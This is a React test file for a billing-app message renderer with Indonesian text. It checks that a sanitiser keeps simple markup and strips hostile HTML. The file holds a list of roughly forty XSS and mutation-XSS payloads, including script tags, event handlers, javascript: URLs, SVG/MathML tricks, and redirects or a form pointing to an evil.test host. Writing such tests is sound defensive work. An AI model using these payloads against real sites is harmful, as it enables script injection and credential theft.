/* eslint-disable testing-library/no-node-access -- of a hostile message each element counts, whatever its role */
import { render, screen, waitFor } from '@testing-library/react';
import { safeUrl } from '@/domain/safeUrl';
import { drawMarkup } from './markup';
import { Message } from './Message';
import { MAX_MESSAGE_LENGTH, plainText } from './plainText';

/** The message as it is drawn, with each link as its address and words. */
function drawn(message: string): HTMLElement {
  render(
    <article>
      {drawMarkup(message, (href, words) => (
        <span data-href={href}>{words}</span>
      ))}
    </article>,
  );
  return screen.getByRole('article');
}

describe('a message', () => {
  test('keeps its simple markup', () => {
    const message = drawn(
      '<p>Tagihan <b>1.250</b> <i>jatuh tempo</i><br>besok.</p><ul><li>satu</li><li>dua</li></ul>',
    );
    expect(message.innerHTML).toBe(
      '<div>Tagihan <strong>1.250</strong> <em>jatuh tempo</em><br>besok.</div>' +
        '<ul><li>satu</li><li>dua</li></ul>',
    );
  });

  test('hands its links over with their words', () => {
    const message = drawn(
      'Lihat <a href="https://app.bos.test/billing/1" onclick="x()">tagihan</a>.',
    );
    expect(message).toHaveTextContent('Lihat tagihan.');
    expect(message.querySelector('span')).toHaveAttribute(
      'data-href',
      'https://app.bos.test/billing/1',
    );
  });

  test.each([
    ['Saldo < 5 juta & aman; 3 > 2', 'Saldo < 5 juta & aman; 3 > 2'],
    ['Tarif &lt;b&gt; &amp; biaya', 'Tarif <b> & biaya'],
  ])('%j is shown as %j', (message, words) => {
    expect(drawn(message)).toHaveTextContent(words);
  });

  const payload = 'window.__pwned=1';
  const hostile = [
    `<script>${payload}</script>`,
    `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
    `<scr<script>ipt>${payload}</scr</script>ipt>`,
    `<img src=x onerror="${payload}">`,
    `<img src="javascript:${payload}">`,
    `<svg onload="${payload}">`,
    `<svg><script>${payload}</script></svg>`,
    `<svg><animate onbegin=${payload} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${payload}"><text>x</text></a></svg>`,
    `<math><mi xlink:href="javascript:${payload}">x</mi></math>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${payload}&gt;">`,
    `<iframe src="javascript:${payload}"></iframe>`,
    `<iframe srcdoc="<script>${payload}</script>"></iframe>`,
    `<object data="data:text/html,<script>${payload}</script>"></object>`,
    `<embed src="javascript:${payload}">`,
    `<a href="javascript:${payload}">klik</a>`,
    `<a href="java\nscript:${payload}">klik</a>`,
    `<a href="&#106;avascript:${payload}">klik</a>`,
    `<a href="data:text/html,<script>${payload}</script>">klik</a>`,
    `<a href="vbscript:${payload}">klik</a>`,
    `<p style="background:url(javascript:${payload})" onclick="${payload}">teks</p>`,
    `<style>@import 'https://evil.test/x.css';</style>`,
    `<link rel=stylesheet href=https://evil.test/x.css>`,
    `<meta http-equiv=refresh content="0;url=https://evil.test">`,
    `<base href="https://evil.test/">`,
    `<form action="https://evil.test"><input name=otp autofocus onfocus=${payload}><button>Kirim</button></form>`,
    `<details open ontoggle=${payload}>`,
    `<video src=x onerror=${payload}></video><audio src=x onerror=${payload}>`,
    `<body onload=${payload}>`,
    `<marquee onstart=${payload}>teks</marquee>`,
    `<b id="root" class="x" name="getElementById">teks</b>`,
    `<template><script>${payload}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${payload}>">`,
    `<!--[if gte IE 4]><script>${payload}</script><![endif]-->`,
    `<![CDATA[<script>${payload}</script>]]>`,
    `<x-element onclick=${payload}>teks</x-element>`,
    `<b/onclick=${payload}>teks</b>`,
    `"><img src=x onerror=${payload}>`,
    "'-alert(1)-'",
    `\u0000<script>\u0000${payload}</script>`,
  ];
  const allowed = ['B', 'BR', 'DIV', 'EM', 'I', 'LI', 'OL', 'P', 'SPAN', 'STRONG', 'U', 'UL'];

  test.each(hostile)('X1: %p runs nothing and leaves nothing behind but words', (message) => {
    const shown = drawn(message);
    const inside = [...shown.querySelectorAll('*')];
    expect(inside.map(({ tagName }) => tagName).filter((tag) => !allowed.includes(tag))).toEqual(
      [],
    );
    for (const element of inside)
      expect(element.getAttributeNames().filter((name) => name !== 'data-href')).toEqual([]);
    for (const link of shown.querySelectorAll('[data-href]'))
      expect(safeUrl(link.getAttribute('data-href'))).toBeNull();
    expect(window).not.toHaveProperty('__pwned');
  });

  test.each([
    ['nests thousands of tags', `${'<b>'.repeat(5000)}dalam${'</b>'.repeat(5000)}`, 'dalam'],
    ['nests dozens of tags', `${'<i>'.repeat(40)}dalam${'</i>'.repeat(40)}`, 'dalam'],
    ['opens thousands and names none', '<'.repeat(10_000), '<<<'],
  ])('X1: that %s is drawn all the same', (_what, message, words) => {
    const shown = drawn(message);
    expect(shown).toHaveTextContent(words);
    expect(shown.querySelectorAll('*').length).toBeLessThan(40);
  });

  test('is plain words until its markup can be read', async () => {
    render(<Message message="<p>Dana <b>cair</b></p><p>besok</p>" drawLink={() => null} />);
    expect(screen.getByText('Dana cair besok')).toBeVisible();
    await waitFor(() => expect(screen.getByText('cair').tagName).toBe('STRONG'));
  });

  test('without end is cut, and stays plain words', () => {
    render(<Message message={`<b>${'a'.repeat(1_000_000)}</b>`} drawLink={() => null} />);
    const words = screen.getByText(/^a+$/);
    expect(words.textContent.length).toBeLessThanOrEqual(MAX_MESSAGE_LENGTH);
    expect(words.tagName).toBe('DIV');
  });

  test.each([
    ['a<b>c</b>', 'ac'],
    ['<p>satu</p><p>dua</p>', 'satu\ndua'],
    ['satu<br/>dua', 'satu\ndua'],
    ['3 < 5 &amp; 5 > 3', '3 < 5 & 5 > 3'],
    ['&amp;lt;b&amp;gt;', '&lt;b&gt;'],
    ['Halo\nDunia', 'Halo\nDunia'],
  ])('%j is, as plain words, %j', (message, words) => {
    expect(plainText(message)).toBe(words);
  });
});
